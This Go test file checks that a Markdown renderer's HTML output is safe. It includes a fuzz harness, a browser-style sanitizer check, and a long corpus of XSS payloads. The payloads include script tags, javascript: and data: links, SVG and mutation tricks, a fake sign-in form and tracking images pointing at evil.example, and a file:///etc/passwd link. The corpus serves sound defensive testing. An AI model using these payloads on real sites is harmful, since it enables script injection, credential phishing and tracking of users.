package markdown_test

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"aftercare/internal/markdown"
)

// elements and attributes are all that may be left of anything, written here a second time.
var elements = strings.Fields("p br hr strong em del blockquote ul ol li pre code h1 h2 h3 h4 h5 h6 table thead tbody tr th td a")

var attributes = map[string][]string{
	"a": {"href", "rel", "target"}, "ol": {"start"}, "code": {"class"}, "th": {"align"}, "td": {"align"},
}

// fault says what of the HTML should not be there; "" when all may. It reads it as a browser would, inside a page.
func fault(source string) string {
	root, err := html.Parse(strings.NewReader("<!doctype html><html><body><div id=message>" + source + "</div></body></html>"))
	if err != nil {
		return err.Error()
	}
	var found string
	inside := false
	var walk func(node *html.Node)
	walk = func(node *html.Node) {
		isMessage := node.Type == html.ElementNode && node.Data == "div" && !inside
		if inside && found == "" {
			found = nodeFault(node)
		}
		if isMessage {
			inside = true
		}
		for child := node.FirstChild; child != nil; child = child.NextSibling {
			walk(child)
		}
		if isMessage {
			inside = false
			if node.NextSibling != nil && found == "" {
				found = "something broke out of the message"
			}
		}
	}
	walk(root)
	return found
}

func nodeFault(node *html.Node) string {
	switch node.Type {
	case html.TextNode:
		return ""
	case html.ElementNode:
	default:
		return fmt.Sprintf("a node of type %d: %q", node.Type, node.Data)
	}
	if !slices.Contains(elements, node.Data) || node.Namespace != "" {
		return "element " + node.Namespace + ":" + node.Data
	}
	for _, attribute := range node.Attr {
		if !slices.Contains(attributes[node.Data], attribute.Key) {
			return fmt.Sprintf("attribute %s.%s=%q", node.Data, attribute.Key, attribute.Val)
		}
		if text := attributeFault(node, attribute); text != "" {
			return text
		}
	}
	return ""
}

func attributeFault(node *html.Node, attribute html.Attribute) string {
	switch attribute.Key {
	case "href":
		address, err := url.Parse(attribute.Val)
		isOurs := err == nil && strings.HasPrefix(address.Scheme, "http") && address.Host == ""
		if err != nil || isOurs || !slices.Contains([]string{"http", "https", "mailto", "tel"}, address.Scheme) {
			return fmt.Sprintf("address %q", attribute.Val)
		}
		rel := ""
		for _, other := range node.Attr {
			if other.Key == "rel" {
				rel = other.Val
			}
		}
		if strings.HasPrefix(address.Scheme, "http") && (!strings.Contains(rel, "nofollow") || !strings.Contains(rel, "noopener") || !strings.Contains(rel, "noreferrer")) {
			return fmt.Sprintf("address %q with rel %q", attribute.Val, rel)
		}
	case "class":
		if !strings.HasPrefix(attribute.Val, "language-") || strings.ContainsAny(attribute.Val, " \t\n") {
			return fmt.Sprintf("class %q", attribute.Val)
		}
	case "target":
		if attribute.Val != "_blank" {
			return fmt.Sprintf("target %q", attribute.Val)
		}
	}
	return ""
}

// corpus is what people try. None of it may run, load anything, or look like a part of the page.
var corpus = []string{
	// raw tags
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>alert(1);//<</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x` + "`" + `><script>alert(1)</script>"` + "`" + `>`,
	`<img/src="x"/onerror="alert(1)">`,
	"<img\nsrc=x\nonerror\n=\nalert(1)>",
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><foreignObject><body onload=alert(1)></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="//evil.example/x.swf">`,
	`<link rel=stylesheet href="//evil.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="//evil.example/">`,
	`<form action="//evil.example"><input name=password><button>Sign in</button></form>`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<div style="position:fixed;inset:0">overlay</div>`,
	`<p onclick="alert(1)" class="button" id="app">text</p>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="//evil.example" onmouseover="alert(1)">x</a>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<body onload=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<title></title><script>alert(1)</script>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`</div></body><script>alert(1)</script>`,
	`</p></li></ul></td></tr></table></div><h1>The desk says</h1>`,
	`<dialog open>Your session ended</dialog>`,
	`<custom-element onfocus=alert(1) tabindex=1 autofocus>`,
	// comments, processing instructions, CDATA
	`<!--><script>alert(1)</script>-->`,
	`<!-- --!><script>alert(1)</script> -->`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<?xml version="1.0"?><?php echo 1 ?>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<!DOCTYPE html><script>alert(1)</script>`,
	// links
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](  javascript:alert(1))`,
	`[x](<javascript:alert(1)>)`,
	"[x](java\tscript:alert(1))",
	"[x](<java\nscript:alert(1)>)",
	`[x](&#106;avascript:alert(1))`,
	`[x](&#x6A;&#x61;vascript&colon;alert(1))`,
	`[x](javascript&#58;alert(1))`,
	`[x](javascript&NewLine;:alert(1))`,
	`[x](&Tab;javascript:alert(1))`,
	`[x](\javascript:alert(1))`,
	`[x](j\avascript\:alert(1))`,
	`[x](%6aavascript:alert(1))`,
	`[x](` + "\u0001" + `javascript:alert(1))`,
	`[x](` + "\u00a0" + `javascript:alert(1))`,
	`[x](` + "\ufeff" + `javascript:alert(1))`,
	`[x](javascript://evil.example/%0aalert(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](DATA:image/svg+xml,<svg onload=alert(1)>)`,
	`[x](vbscript:msgbox(1))`,
	`[x](file:///etc/passwd)`,
	`[x](blob:http://a/b)`,
	`[x](filesystem:http://a/b)`,
	`[x](intent://evil#Intent;scheme=http;end)`,
	`[x](ms-msdt:/id)`,
	`[x](//evil.example)`,
	`[x](/desk/settings)`,
	`[x](#top)`,
	`[x](?a=1)`,
	`[x](http://a.example "onmouseover=alert(1)")`,
	`[x](http://a.example "\"><script>alert(1)</script>")`,
	`[x](http://a.example"onmouseover="alert(1))`,
	`[x](http://a.example/<script>alert(1)</script>)`,
	`[<img src=x onerror=alert(1)>](http://a.example)`,
	`[x](http:)`,
	`[x](http:/desk)`,
	`[x](https:desk)`,
	`[x](http:///desk)`,
	`[x](http:\\\\evil.example)`,
	`[x](http://user:password@a.example@evil.example)`,
	"[x]: javascript:alert(1)\n\n[x]",
	"[x][y]\n\n[y]: data:text/html,<script>alert(1)</script> 'title'",
	"[x]\n\n[x]: <javascript:alert(1)> (t)",
	"[^1]\n\n[^1]: <script>alert(1)</script>",
	`<javascript:alert(1)>`,
	`<data:text/html,x>`,
	`<mailto:a@b.example?subject=<script>>`,
	`<http://a.example/"onclick="alert(1)>`,
	`http://a.example/"onmouseover="alert(1)`,
	`http://a.example/'><script>alert(1)</script>`,
	`www.a.example<script>alert(1)</script>`,
	`javascript:alert(1)`,
	`https://[::1]:80/<svg>`,
	// pictures
	`![x](http://evil.example/seen.png)`,
	`![x](javascript:alert(1))`,
	`![x"onerror="alert(1)](x)`,
	`![x](x "onerror=alert(1)")`,
	`[![x](http://evil.example/seen.png)](javascript:alert(1))`,
	"![x][y]\n\n[y]: http://evil.example/seen.png",
	// attributes by Markdown
	`# Title {#app onclick="alert(1)" style="color:red" .button}`,
	"# Title {#id onclick=alert(1)}",
	"Title {onclick=alert(1) #x}\n===",
	"```js {onclick=alert(1)}\nx\n```",
	// fences
	"```html\n<script>alert(1)</script>\n```",
	"```\"><script>alert(1)</script>\nx\n```",
	"```js\" onmouseover=\"alert(1)\nx\n```",
	"```language-x onclick\nx\n```",
	"~~~ <img src=x onerror=alert(1)>\nx\n~~~",
	"    <script>alert(1)</script>",
	"`<script>alert(1)</script>`",
	"``` \n</code></pre><script>alert(1)</script>\n```",
	// tables, lists, quotes, strikes
	"|<script>|b|\n|:--|--:|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
	"|a|\n|:-:\" onclick=\"alert(1)|\n|b|",
	"- <script>alert(1)</script>\n- [x](javascript:alert(1))\n  1. <svg onload=alert(1)>",
	"1000000000. x",
	"- [x] <input onfocus=alert(1) autofocus>",
	"> <script>\n> alert(1)\n> </script>",
	"~~<del onclick=alert(1)>~~",
	"**<b onclick=alert(1)>**",
	// letters
	"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
	"\u202e<script>alert(1)</script>",
	"<\u200bscript>alert(1)</script>",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&amp;lt;script&amp;gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"&lt;img src=x onerror=alert(1)&gt;",
	"a\x00b<script\x00>",
	"\xff\xfe<script>alert(1)</script>",
	"\\<script\\>alert(1)\\</script\\>",
	`<a href="http://a.example">not a link that was written</a>`,
	"<p>\n\n[x](javascript:alert(1))\n\n</p>",
	"<div>\n*x* <script>alert(1)</script>",
	`<a href="`,
	`<`, `</`, `<!`, `<?`, `&`, `[`, `](`, "`", "![", "~~", "|", "```",
}

func TestHTML_CorpusIsHarmless(t *testing.T) {
	t.Parallel()
	tried := append([]string(nil), corpus...)
	for i, source := range corpus { // each also inside what others begin
		tried = append(tried, "> - "+source, "**"+source+"**", "["+source+"](http://a.example)", corpus[(i*7+3)%len(corpus)]+source, source+"\n\n"+corpus[(i*11+5)%len(corpus)],
			"|a|\n|-|\n|"+strings.ReplaceAll(source, "\n", " ")+"|", strings.ToUpper(source))
	}
	for _, source := range tried {
		if found := fault(markdown.HTML(source)); found != "" {
			t.Errorf("%q leaves %s in %q", source, found, markdown.HTML(source))
		}
	}
}

func TestHTML_ShowsWhatWasWritten(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ source, want string }{
		{"", ""},
		{" \n\t", ""},
		{"one\ntwo", "<p>one<br>\ntwo</p>"},
		{"**bold** *soft* ~~gone~~ `code`", "<p><strong>bold</strong> <em>soft</em> <del>gone</del> <code>code</code></p>"},
		{"> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"},
		{"3. three", `<ol start="3">` + "\n<li>three</li>\n</ol>"},
		{"```go\nx := 1\n```", "<pre><code class=\"language-go\">x := 1\n</code></pre>"},
		{"# Title", "<h1>Title</h1>"},
		{"see https://a.example/x?y=1&z=2", `<p>see <a href="https://a.example/x?y=1&amp;z=2" rel="nofollow noreferrer noopener" target="_blank">https://a.example/x?y=1&amp;z=2</a></p>`},
		{"[mail](mailto:a@b.example) [call](tel:+8610123)", `<p><a href="mailto:a@b.example" rel="nofollow noreferrer">mail</a> <a href="tel:+8610123" rel="nofollow noreferrer">call</a></p>`},
		{"|a|b|\n|:-|-:|\n|1|2|", "<table>\n<thead>\n<tr>\n<th align=\"left\">a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"left\">1</td>\n<td align=\"right\">2</td>\n</tr>\n</tbody>\n</table>"},
		{"if a < b && c > d", "<p>if a &lt; b &amp;&amp; c &gt; d</p>"},
		{"第一行\n第二行", "<p>第一行<br>\n第二行</p>"},
		{"你好，**重要**的事", "<p>你好，<strong>重要</strong>的事</p>"},
		{"press <Enter> twice", "<p>press &lt;Enter&gt; twice</p>"},
		{"<b>loud</b>", "<p>&lt;b&gt;loud&lt;/b&gt;</p>"},
		{"<div>\nboxed\n</div>", "<p>&lt;div&gt;<br>\nboxed<br>\n&lt;/div&gt;</p>"},
		{"List<String> names = new ArrayList<>();", "<p>List&lt;String&gt; names = new ArrayList&lt;&gt;();</p>"},
		{"before <!-- hidden --> after", "<p>before &lt;!-- hidden --&gt; after</p>"},
		{"- [x] done\n- [ ] open", "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>"},
		{"![the door](http://evil.example/seen.png)", `<p>the door</p>`},
	} {
		if got := markdown.HTML(c.source); got != c.want {
			t.Errorf("%q:\ngot  %q\nwant %q", c.source, got, c.want)
		}
	}
}

// TestHTML_IsBounded renders what is known to hurt parsers. The bound is a hundred times what it takes, so that a slow
// machine is no fault; what grows with the square of the input misses it by far.
func TestHTML_IsBounded(t *testing.T) {
	t.Parallel()
	const size = 200_000
	for what, part := range map[string]string{
		"brackets": "[", "closing brackets": "]", "images": "![", "links": "[a](", "nested links": "[a](b", "stars": "*", "stars and letters": "*a ", "mixed emphasis": "*_", "quotes": ">", "spaced quotes": "> ",
		"backticks": "`", "odd backticks": "`` ` ", "lists": "- ", "numbers": "1. ", "angles": "<", "tags": "<a ", "comments": "<!--", "instructions": "<?", "entities": "&", "pipes": "|", "tables": "|a|\n|-|\n",
		"addresses": "www.a.", "mails": "a@b", "strikes": "~~a", "tildes": "~", "references": "[a]: b\n", "uses": "[a][b]", "headings": "# {#a .b ", "attributes": "{a=b ", "backslashes": `\`, "blanks": " ", "lines": "\n", "tabs": "\t- ",
		"colons": "http://", "Chinese": "长*", "parentheses": "[a](((", "declarations": "<!A", "data": "<![CDATA[", "fences": "```\n", "rules": "---\n", "nested lists": "  - a\n", "braces": "{",
	} {
		t.Run(what, func(t *testing.T) {
			source := strings.Repeat(part, size/len(part))
			begun := time.Now()
			out := markdown.HTML(source)
			if took := time.Since(begun); took > 5*time.Second {
				t.Errorf("took %s", took)
			}
			if len(out) > 40*size {
				t.Errorf("%d bytes became %d", len(source), len(out))
			}
		})
	}
	for depth := range 3 {
		nested := strings.Repeat([]string{"> ", "- ", "**a *b "}[depth], 5_000) + "x"
		if found := fault(markdown.HTML(nested)); found != "" {
			t.Errorf("nested: %s", found)
		}
	}
}

func FuzzHTML(f *testing.F) {
	for _, source := range corpus {
		f.Add(source)
	}
	f.Fuzz(func(t *testing.T, source string) {
		if found := fault(markdown.HTML(source)); found != "" {
			t.Errorf("%q leaves %s", source, found)
		}
	})
}

// TestHTML_WideTables renders tables whose cells are many times their text: each short row is filled up to the head's
// width, so that a bound on the text alone is none.
func TestHTML_WideTables(t *testing.T) {
	t.Parallel()
	for _, columns := range []int{1_000, 20_000} {
		wide := "|" + strings.Repeat("a|", columns) + "\n|" + strings.Repeat("-|", columns) + "\n" + strings.Repeat("|a\n", columns)
		for _, source := range []string{wide, "> " + strings.ReplaceAll(wide, "\n", "\n> "), "text\n" + wide} {
			if got := len(markdown.HTML(source)); got > 20*len(source) {
				t.Errorf("%d columns: %d bytes made of %d", columns, got, len(source))
			}
		}
	}
	if got := markdown.HTML("| a | b |\n| - | - |\n| 1 | 2 |"); !strings.Contains(got, "<td>2</td>") {
		t.Errorf("an honest table: %s", got)
	}
}
